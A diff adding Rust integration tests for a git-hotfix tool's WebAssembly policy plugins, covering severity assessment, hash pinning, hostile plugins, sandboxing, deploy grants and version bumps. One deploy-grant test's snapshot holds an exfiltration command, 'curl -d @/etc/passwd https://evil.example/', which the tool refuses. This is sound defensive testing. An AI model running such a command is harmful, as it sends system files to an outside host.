@@ -1,0 +1,705 @@
+//! Policy plugins end to end: the built-ins, a team's own plugin through `.hotfix.toml`, the
+//! trust checks, the hostile corpus, and the version bump `finish` makes with them.
+
+use std::path::{Path, PathBuf};
+
+use sha2::Digest;
+
+use crate::common::{TestEnv, assert_unchanged, scrub, snapshot};
+
+fn workspace_file(path: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../..")
+        .join(path)
+}
+
+fn test_plugin(name: &str) -> Vec<u8> {
+    std::fs::read(workspace_file(&format!("tests/plugins/dist/{name}.wasm"))).unwrap()
+}
+
+fn sha256(bytes: &[u8]) -> String {
+    format!("{:x}", sha2::Sha256::digest(bytes))
+}
+
+fn journal(repo: &Path, ticket: &str) -> serde_json::Value {
+    let text = std::fs::read_to_string(repo.join(format!(".git/hotfix/{ticket}.json"))).unwrap();
+    serde_json::from_str(&text).unwrap()
+}
+
+impl TestEnv {
+    /// `linear`, then a commit on main with `bytes` at `policies/<name>.wasm` and a
+    /// `.hotfix.toml` of `config` (which names it).
+    fn with_plugin(&self, name: &str, bytes: &[u8], config: &str) -> PathBuf {
+        let repo = self.linear().dir;
+        let path = repo.join(format!("policies/{name}.wasm"));
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, bytes).unwrap();
+        self.git(&repo, &["add", "policies"]);
+        self.commit(&repo, "Our own policy", &[(".hotfix.toml", config)]);
+        repo
+    }
+
+    /// The severity policy replaced by `policies/<name>.wasm`, pinned to its hash.
+    fn with_severity_plugin(&self, name: &str, bytes: &[u8], limits: &str) -> PathBuf {
+        let config = format!(
+            "[policies.severity]\nplugin = \"policies/{name}.wasm\"\nsha256 = \"{}\"\n\n{limits}",
+            sha256(bytes)
+        );
+        self.with_plugin(name, bytes, &config)
+    }
+}
+
+#[test]
+fn the_builtin_severity_policy_calls_an_auth_bypass_p0_and_says_why() {
+    let env = TestEnv::new();
+    let repo = env.linear().dir;
+    let json = env
+        .hotfix(
+            &repo,
+            &["assess", "--title", "auth bypass on login", "--json"],
+        )
+        .ok()
+        .json();
+    let assessment = &json["assessment"];
+    assert_eq!(assessment["severity"], "P0");
+    assert_eq!(assessment["response_minutes"], 120);
+    assert_eq!(assessment["deploy_window"], "immediate");
+    assert_eq!(assessment["skip_staging_allowed"], true);
+    assert_eq!(assessment["by"], "builtin:severity");
+    assert_eq!(
+        assessment["reasons"],
+        serde_json::json!(["title mentions \"auth bypass\": security vulnerability"])
+    );
+    assert_eq!(json["recorded"], false);
+
+    // Outside any repository the built-in answers too; answers and labels count.
+    let run = env
+        .hotfix(
+            env.root.path(),
+            &[
+                "assess",
+                "--title",
+                "checkout crash",
+                "--answer",
+                "workaround=yes",
+            ],
+        )
+        .ok();
+    insta::assert_snapshot!(run.stdout, @r#"
+    P2 · major bug
+      respond within 24h, deploy next business day, through staging, 1 approval
+      because:
+        - title mentions "crash": app crash
+        - a workaround exists: one level lower
+      (policy: builtin:severity)
+    "#);
+}
+
+#[test]
+fn answers_come_from_a_file_and_a_question_nobody_answers_stays_unanswered() {
+    let env = TestEnv::new();
+    let answers = env.path("answers.toml");
+    std::fs::write(&answers, "down = true\nworkaround = \"no\"\n").unwrap();
+    let json = env
+        .hotfix(
+            env.root.path(),
+            &[
+                "assess",
+                "--title",
+                "login",
+                "--answers",
+                "answers.toml",
+                "--json",
+            ],
+        )
+        .ok()
+        .json();
+    assert_eq!(json["assessment"]["severity"], "P0");
+    assert_eq!(
+        json["assessment"]["reasons"],
+        serde_json::json!(["answered: production is fully down"])
+    );
+
+    std::fs::write(&answers, "down = [").unwrap();
+    let run = env
+        .hotfix(
+            env.root.path(),
+            &["assess", "--title", "login", "--answers", "answers.toml"],
+        )
+        .expect(2);
+    assert!(
+        run.stderr.contains("answers.toml is not TOML"),
+        "{}",
+        run.stderr
+    );
+}
+
+#[test]
+fn start_records_the_severity_chosen_or_assessed_and_status_shows_it() {
+    let env = TestEnv::new();
+    let repo = env.linear().dir;
+    env.hotfix(
+        &repo,
+        &[
+            "start",
+            "ENG-1",
+            "slow",
+            "search",
+            "--severity",
+            "p1",
+            "--no-checkout",
+        ],
+    )
+    .ok();
+    let assessed = &journal(&repo, "ENG-1")["assessment"];
+    assert_eq!(assessed["severity"], "P1");
+    assert_eq!(assessed["response_minutes"], 240);
+    assert_eq!(assessed["by"], "--severity, builtin:severity");
+    assert_eq!(journal(&repo, "ENG-1")["events"][1]["event"], "assessed");
+
+    let run = env
+        .hotfix(
+            &repo,
+            &[
+                "start", "ENG-2", "fix", "login", "--assess", "--label", "security",
+            ],
+        )
+        .ok();
+    assert!(
+        run.stderr
+            .contains("Severity P0 · security vulnerability: respond within 2h, deploy immediate"),
+        "{}",
+        run.stderr
+    );
+    let assessed = &journal(&repo, "ENG-2")["assessment"];
+    assert_eq!(assessed["severity"], "P0");
+    assert_eq!(
+        assessed["reasons"],
+        serde_json::json!(["labelled \"security\": security vulnerability"])
+    );
+    let status = env.hotfix(&repo, &["status"]).ok();
+    assert!(
+        status
+            .stdout
+            .contains("  severity P0 · security vulnerability: respond within 2h"),
+        "{}",
+        status.stdout
+    );
+
+    // A later assessment replaces it in the journal, with its own event.
+    env.hotfix(
+        &repo,
+        &[
+            "assess",
+            "--record",
+            "--title",
+            "login slow for some",
+            "--answer",
+            "security=no",
+        ],
+    )
+    .ok();
+    let journal = journal(&repo, "ENG-2");
+    assert_eq!(journal["assessment"]["severity"], "P2");
+    let events: Vec<&str> = journal["events"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["event"].as_str().unwrap())
+        .collect();
+    assert_eq!(events, ["started", "assessed", "assessed"]);
+
+    // What the policy is told needs --assess to be told at all.
+    let run = env
+        .hotfix(&repo, &["start", "ENG-3", "x", "--label", "security"])
+        .expect(2);
+    assert!(run.stderr.contains("add `--assess`"), "{}", run.stderr);
+    assert_eq!(env.rev(&repo, "hotfix/ENG-3-x"), None);
+}
+
+#[test]
+fn a_teams_own_policy_replaces_the_builtin_through_hotfix_toml() {
+    let env = TestEnv::new();
+    let strict = test_plugin("strict");
+    let repo = env.with_severity_plugin("strict", &strict, "");
+
+    let json = env
+        .hotfix(
+            &repo,
+            &[
+                "assess",
+                "--title",
+                "auth bypass on login",
+                "--label",
+                "customer-facing",
+                "--json",
+            ],
+        )
+        .ok()
+        .json();
+    assert_eq!(json["assessment"]["severity"], "P0");
+    assert_eq!(
+        json["assessment"]["reasons"],
+        serde_json::json!(["customers see it: strict policy"])
+    );
+    assert_eq!(json["assessment"]["by"], "policies/strict.wasm");
+    // The built-in would call this P0; the team's policy does not.
+    let json = env
+        .hotfix(
+            &repo,
+            &["assess", "--title", "auth bypass on login", "--json"],
+        )
+        .ok()
+        .json();
+    assert_eq!(json["assessment"]["severity"], "P2");
+
+    let list = env.hotfix(&repo, &["plugin", "list", "--json"]).ok().json();
+    assert_eq!(list["policies"][0]["plugin"], "policies/strict.wasm");
+    assert_eq!(list["policies"][0]["sha256"], sha256(&strict));
+    assert_eq!(list["policies"][0]["contract"], "0.1.0");
+    assert_eq!(list["policies"][1]["plugin"], "builtin:version-files");
+}
+
+#[test]
+fn a_plugin_file_runs_only_with_the_sha256_it_is_pinned_to() {
+    let env = TestEnv::new();
+    let strict = test_plugin("strict");
+    let actual = sha256(&strict);
+    let wrong = "0".repeat(64);
+    let repo = env.with_plugin(
+        "strict",
+        &strict,
+        &format!("[policies.severity]\nplugin = \"policies/strict.wasm\"\nsha256 = \"{wrong}\"\n"),
+    );
+    let run = env.hotfix(&repo, &["assess", "--title", "x"]).expect(1);
+    assert!(
+        run.stderr
+            .contains(&format!("expected {wrong}, the file has {actual}")),
+        "{}",
+        run.stderr
+    );
+    assert!(
+        run.stderr.contains(&format!("sha256 = \"{actual}\"")),
+        "{}",
+        run.stderr
+    );
+
+    let env = TestEnv::new();
+    let repo = env.with_plugin(
+        "strict",
+        &strict,
+        "[policies.severity]\nplugin = \"policies/strict.wasm\"\n",
+    );
+    let before = snapshot(&repo);
+    let run = env
+        .hotfix(&repo, &["start", "ENG-1", "fix", "--assess"])
+        .expect(1);
+    assert!(
+        run.stderr
+            .contains("policies/strict.wasm is not pinned: a plugin file needs its sha256"),
+        "{}",
+        run.stderr
+    );
+    assert!(
+        run.stderr.contains(&format!("add: sha256 = \"{actual}\"")),
+        "{}",
+        run.stderr
+    );
+    assert_unchanged(&before, &snapshot(&repo));
+}
+
+#[test]
+fn hostile_plugins_end_in_a_clear_error_and_leave_the_repository_untouched() {
+    let strict = test_plugin("strict");
+    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
+        (
+            "loop-forever",
+            test_plugin("loop-forever"),
+            "[plugin-limits]\nfuel = 50000000\n",
+        ),
+        (
+            "loop-forever",
+            test_plugin("loop-forever"),
+            "[plugin-limits]\nfuel = 100000000000000\ndeadline-ms = 300\n",
+        ),
+        ("memory-bomb", test_plugin("memory-bomb"), ""),
+        ("deep-recursion", test_plugin("deep-recursion"), ""),
+        ("trap", test_plugin("trap"), ""),
+        ("huge-output", test_plugin("huge-output"), ""),
+        ("other-version", test_plugin("other-version"), ""),
+        (
+            "deploy",
+            std::fs::read(workspace_file("plugins/dist/deploy.wasm")).unwrap(),
+            "",
+        ),
+        ("readme", b"# not a plugin\n".to_vec(), ""),
+        ("truncated", strict[..strict.len() / 2].to_vec(), ""),
+    ];
+    let mut report = Vec::new();
+    for (name, bytes, limits) in cases {
+        let env = TestEnv::new();
+        let repo = env.with_severity_plugin(name, &bytes, limits);
+        let before = snapshot(&repo);
+        let run = env.hotfix(&repo, &["start", "ENG-1", "fix", "login", "--assess"]);
+        assert_unchanged(&before, &snapshot(&repo));
+        env.fsck(&repo);
+        let first = run.stderr.lines().next().unwrap_or_default();
+        // Durations vary from run to run; the limit in the message does not.
+        let first = match first.split_once("still running after ") {
+            Some((head, _)) => format!("{head}still running after [SECONDS] (the deadline)"),
+            None => first.to_string(),
+        };
+        report.push(format!("exit {}: {}", run.code, scrub(&env, &first)));
+    }
+    insta::assert_snapshot!(report.join("\n"), @r"
+    exit 1: error: policies/loop-forever.wasm assess: ran out of fuel (limit: 50000000 units)
+    exit 1: error: policies/loop-forever.wasm assess: still running after [SECONDS] (the deadline)
+    exit 1: error: policies/memory-bomb.wasm assess: went over its memory limit of 64 MiB
+    exit 1: error: policies/deep-recursion.wasm assess: overflowed its stack
+    exit 1: error: policies/trap.wasm assess: crashed (wasm trap: wasm `unreachable` instruction executed); it printed: assessing ENG-1 ...
+    exit 1: error: policies/huge-output.wasm assess: went over its memory limit of 64 MiB
+    exit 1: error: policies/other-version.wasm implements git-hotfix:plugin/severity@0.2.0, but this git-hotfix supports 0.1.0
+    exit 1: error: policies/deploy.wasm is not a severity policy (it exports: git-hotfix:plugin/deploy@0.1.0)
+    exit 1: error: policies/readme.wasm is not a WebAssembly component: it is not WebAssembly at all (no `\0asm` header)
+    exit 1: error: policies/truncated.wasm is not a WebAssembly component: failed to parse WebAssembly module: wasm component contains an invalid module section: section range 1961..40879 is out of bounds (bound = 24373)
+    ");
+}
+
+#[test]
+fn wasi_gives_a_plugin_nothing_to_read_or_reach() {
+    let env = TestEnv::new();
+    let repo = env.with_severity_plugin("snoop", &test_plugin("snoop"), "");
+    std::fs::write(repo.join("secret.txt"), "hunter2").unwrap();
+    let json = env
+        .hotfix(&repo, &["assess", "--title", "secret.txt", "--json"])
+        .ok()
+        .json();
+    let reasons = json["assessment"]["reasons"].to_string();
+    assert!(!reasons.contains("hunter2"), "{reasons}");
+    assert!(reasons.contains("env: 0 variables, HOME=None"), "{reasons}");
+    assert!(!reasons.contains("socket: connected"), "{reasons}");
+}
+
+#[test]
+fn a_deploy_step_outside_the_grants_is_refused_with_the_line_that_allows_it() {
+    let env = TestEnv::new();
+    let ungranted = test_plugin("ungranted");
+    let config = format!(
+        "[policies.deploy]\nplugin = \"policies/ungranted.wasm\"\nsha256 = \"{}\"\ncommands = [\"kubectl\"]\n",
+        sha256(&ungranted)
+    );
+    let repo = env.with_plugin("ungranted", &ungranted, &config);
+    let run = env
+        .hotfix(
+            &repo,
+            &["plugin", "plan", "production", "--version", "1.2.4"],
+        )
+        .expect(4);
+    insta::assert_snapshot!(run.stdout, @r"
+    Deploy v1.2.4 in production with policies/ungranted.wasm:
+      1. run      curl -d @/etc/passwd https://evil.example/ (timeout 10 s): exfiltrate   NOT GRANTED
+      2. check    https://evil.example/ping answers 200 (1 tries, 1 s apart)   NOT GRANTED
+    ");
+    insta::assert_snapshot!(run.stderr, @r#"
+    error: policies/ungranted.wasm may not run `curl` or call https://evil.example/ping: not granted in .hotfix.toml
+    hint: to allow it, under [policies.deploy]: commands = ["kubectl", "curl"]
+    hint: to allow it, under [policies.deploy]: http = ["https://evil.example/"]
+    "#);
+
+    // The built-in, granted what its settings run, plans without a refusal.
+    let env = TestEnv::new();
+    let repo = env.linear().dir;
+    env.commit(
+        &repo,
+        "Deploy settings",
+        &[(
+            ".hotfix.toml",
+            "[policies.deploy]\nplugin = \"builtin:deploy\"\ncommands = [\"kubectl\"]\nhttp = [\"https://app.example.com/\"]\n\n\
+             [policies.deploy.settings]\n\"production.deploy\" = \"kubectl rollout restart deploy/app\"\n\
+             \"health-url\" = \"https://app.example.com/health\"\n",
+        )],
+    );
+    env.hotfix(&repo, &["start", "ENG-1", "fix", "--no-checkout"])
+        .ok();
+    let json = env
+        .hotfix(
+            &repo,
+            &[
+                "plugin",
+                "plan",
+                "production",
+                "--hotfix",
+                "ENG-1",
+                "--json",
+            ],
+        )
+        .ok()
+        .json();
+    assert_eq!(json["release"]["tag"], "v1.2.4");
+    assert_eq!(json["release"]["previous_version"], "1.2.3");
+    let granted: Vec<&serde_json::Value> = json["steps"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| &s["granted"])
+        .collect();
+    assert_eq!(granted, [true, true, true]);
+}
+
+#[test]
+fn plugin_check_says_what_a_file_implements_and_how_to_use_it() {
+    let env = TestEnv::new();
+    let strict = test_plugin("strict");
+    let repo = env.with_severity_plugin("strict", &strict, "");
+    let run = env
+        .hotfix(&repo.join("policies"), &["plugin", "check", "strict.wasm"])
+        .ok();
+    assert!(
+        run.stdout
+            .contains("severity      contract 0.1.0  compatible"),
+        "{}",
+        run.stdout
+    );
+    assert!(
+        run.stdout.contains(&format!(
+            "  [policies.severity]\n  plugin = \"policies/strict.wasm\"\n  sha256 = \"{}\"",
+            sha256(&strict)
+        )),
+        "{}",
+        run.stdout
+    );
+
+    let other = workspace_file("tests/plugins/dist/other-version.wasm");
+    let json = env
+        .hotfix(
+            &repo,
+            &["plugin", "check", other.to_str().unwrap(), "--json"],
+        )
+        .expect(1)
+        .json();
+    assert_eq!(json["implements"][0]["contract"], "0.2.0");
+    assert_eq!(json["implements"][0]["compatible"], false);
+    assert_eq!(json["usable"], serde_json::json!([]));
+    let run = env
+        .hotfix(&repo, &["plugin", "check", "README.md"])
+        .expect(1);
+    assert!(
+        run.stderr.contains("could not read README.md"),
+        "{}",
+        run.stderr
+    );
+}
+
+#[test]
+fn plugin_test_runs_the_builtin_cases_and_reports_a_failing_one() {
+    let env = TestEnv::new();
+    for name in ["severity", "version-files", "deploy"] {
+        let cases = workspace_file(&format!("plugins/{name}/cases"));
+        let json = env
+            .hotfix(
+                env.root.path(),
+                &[
+                    "plugin",
+                    "test",
+                    &format!("builtin:{name}"),
+                    "--cases",
+                    cases.to_str().unwrap(),
+                    "--json",
+                ],
+            )
+            .ok()
+            .json();
+        assert_eq!(json["failed"], 0, "{json}");
+        assert!(json["passed"].as_u64().unwrap() >= 2, "{json}");
+        let assess = json["cases"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|c| c["fuel"].is_u64())
+            .unwrap();
+        assert!(assess["fuel"].as_u64().unwrap() > 0, "{assess}");
+    }
+
+    let cases = env.path("cases");
+    std::fs::create_dir_all(&cases).unwrap();
+    std::fs::write(
+        cases.join("outage.toml"),
+        "call = \"assess\"\n[input]\ntitle = \"total outage\"\n[expect]\nseverity = \"P0\"\n",
+    )
+    .unwrap();
+    std::fs::write(
+        cases.join("typo.toml"),
+        "call = \"assess\"\n[input]\ntitel = \"x\"\n[expect]\nseverity = \"P0\"\n",
+    )
+    .unwrap();
+    let run = env
+        .hotfix(
+            env.root.path(),
+            &["plugin", "test", "builtin:severity", "--cases", "cases"],
+        )
+        .expect(1);
+    assert!(
+        run.stdout
+            .contains("answer.severity: expected \"P0\", got \"P1\""),
+        "{}",
+        run.stdout
+    );
+    assert!(
+        run.stdout.contains(
+            "[input] has no field `titel` (there are: answers, description, labels, ticket, title)"
+        ),
+        "{}",
+        run.stdout
+    );
+    assert!(
+        run.stdout.contains("2 cases: 0 passed, 2 failed"),
+        "{}",
+        run.stdout
+    );
+}
+
+/// A repository whose product has a Flutter app, a web app and a Cargo workspace.
+fn three_version_files(env: &TestEnv) -> PathBuf {
+    let repo = env.init("repo");
+    env.commit(
+        &repo,
+        "Release 0.1.0",
+        &[
+            (
+                ".hotfix.toml",
+                "version-files = [\"mobile/pubspec.yaml\", \"web/package.json\", \"Cargo.toml\"]\n",
+            ),
+            ("mobile/pubspec.yaml", PUBSPEC),
+            ("web/package.json", PACKAGE_JSON),
+            ("Cargo.toml", CARGO_WORKSPACE),
+            ("src/lib.rs", "pub fn check() -> bool { true }\n"),
+        ],
+    );
+    env.tag(&repo, "v0.1.0");
+    repo
+}
+
+const PUBSPEC: &str = "name: shop\n# the store reads the build number after +\nversion: 0.1.0+5\n\nenvironment:\n  sdk: '>=3.0.0 <4.0.0'\n";
+const PACKAGE_JSON: &str = "{\n    \"name\": \"shop-web\",\n    \"version\": \"0.1.0\",\n    \"dependencies\": {\n        \"left-pad\": { \"version\": \"0.1.0\" }\n    }\n}\n";
+const CARGO_WORKSPACE: &str = "[workspace]\nmembers = [\"crates/*\"]\n\n[workspace.package]\n# one version for every crate\nversion = \"0.1.0\"   # bumped by git hotfix\nedition = \"2024\"\n\n[workspace.dependencies]\nserde = { version = \"0.1.0\" }\n";
+
+#[test]
+fn finish_bumps_every_version_file_in_one_release_commit_keeping_their_formatting() {
+    let env = TestEnv::new();
+    let repo = three_version_files(&env);
+    env.hotfix(&repo, &["start", "ENG-9", "fix", "login"]).ok();
+    let fix = env.commit(
+        &repo,
+        "fix: check the token",
+        &[("src/lib.rs", "pub fn check() -> bool { false }\n")],
+    );
+
+    let run = env.hotfix(&repo, &["finish"]).ok();
+    assert!(run.stderr.contains("released 0.1.1"), "{}", run.stderr);
+
+    // One release commit on top of the fix, tagged and on main.
+    let release = env.rev(&repo, "v0.1.1^{commit}").unwrap();
+    assert_eq!(env.rev(&repo, "main").unwrap(), release);
+    assert_eq!(env.parents(&repo, &release), vec![fix]);
+    assert_eq!(
+        env.git(&repo, &["log", "-1", "--format=%B", &release])
+            .trim(),
+        "Release 0.1.1 (ENG-9)"
+    );
+    let changed = env.git(
+        &repo,
+        &["diff", "--name-only", &format!("{release}^"), &release],
+    );
+    assert_eq!(
+        changed,
+        "Cargo.toml\nmobile/pubspec.yaml\nweb/package.json\n"
+    );
+    // Only the version text changed: comments, order, spacing and the other "0.1.0"s stay.
+    let show = |path: &str| env.git(&repo, &["show", &format!("{release}:{path}")]);
+    assert_eq!(
+        show("mobile/pubspec.yaml"),
+        PUBSPEC.replace("0.1.0+5", "0.1.1+6")
+    );
+    assert_eq!(
+        show("web/package.json"),
+        PACKAGE_JSON.replace("\"version\": \"0.1.0\",", "\"version\": \"0.1.1\",")
+    );
+    assert_eq!(
+        show("Cargo.toml"),
+        CARGO_WORKSPACE.replace("version = \"0.1.0\"   #", "version = \"0.1.1\"   #")
+    );
+    env.fsck(&repo);
+    // The worktree is on main, at the release, clean.
+    assert_eq!(env.git(&repo, &["status", "--porcelain"]), "");
+    assert_eq!(
+        std::fs::read_to_string(repo.join("mobile/pubspec.yaml")).unwrap(),
+        show("mobile/pubspec.yaml")
+    );
+}
+
+#[test]
+fn finish_no_bump_tags_the_fix_itself_and_a_refusing_policy_stops_before_anything_moves() {
+    let env = TestEnv::new();
+    let repo = three_version_files(&env);
+    env.hotfix(&repo, &["start", "ENG-9", "fix", "login"]).ok();
+    let fix = env.commit(
+        &repo,
+        "fix: check the token",
+        &[("src/lib.rs", "pub fn check() -> bool { false }\n")],
+    );
+
+    // A file the policy does not handle: exit 4 (refused by policy), nothing moved.
+    let before = snapshot(&repo);
+    let run = env
+        .hotfix(&repo, &["finish", "-c", "version-files=setup.cfg"])
+        .expect(4);
+    assert!(
+        run.stderr
+            .contains("the version-files policy refused: it does not handle setup.cfg"),
+        "{}",
+        run.stderr
+    );
+    assert!(run.stderr.contains("`--no-bump`"), "{}", run.stderr);
+    assert_unchanged(&before, &snapshot(&repo));
+
+    env.hotfix(&repo, &["finish", "--no-bump"]).ok();
+    assert_eq!(env.rev(&repo, "v0.1.1^{commit}").unwrap(), fix);
+    assert_eq!(
+        env.git(&repo, &["show", "main:mobile/pubspec.yaml"]),
+        PUBSPEC
+    );
+}
+
+#[test]
+fn without_configuration_the_version_files_at_the_root_are_found() {
+    let env = TestEnv::new();
+    let repo = env.init("repo");
+    env.commit(
+        &repo,
+        "Release 2.0.0",
+        &[
+            ("VERSION", "2.0.0\n"),
+            ("package.json", "{ \"version\": \"2.0.0\" }\n"),
+            ("docs/VERSION", "not a version file at the root\n"),
+        ],
+    );
+    env.tag(&repo, "v2.0.0");
+    env.hotfix(&repo, &["start", "ENG-1", "fix"]).ok();
+    env.commit(&repo, "fix", &[("fix.txt", "fixed\n")]);
+    let plan = env.hotfix(&repo, &["finish", "--plan"]).ok();
+    assert!(
+        plan.stdout
+            .contains("package.json 2.0.0 -> 2.0.1, VERSION 2.0.0 -> 2.0.1")
+            || plan
+                .stdout
+                .contains("VERSION 2.0.0 -> 2.0.1, package.json 2.0.0 -> 2.0.1"),
+        "{}",
+        plan.stdout
+    );
+    env.hotfix(&repo, &["finish"]).ok();
+    assert_eq!(env.git(&repo, &["show", "v2.0.1:VERSION"]), "2.0.1\n");
+    assert_eq!(
+        env.git(&repo, &["show", "v2.0.1:docs/VERSION"]),
+        "not a version file at the root\n"
+    );
+}
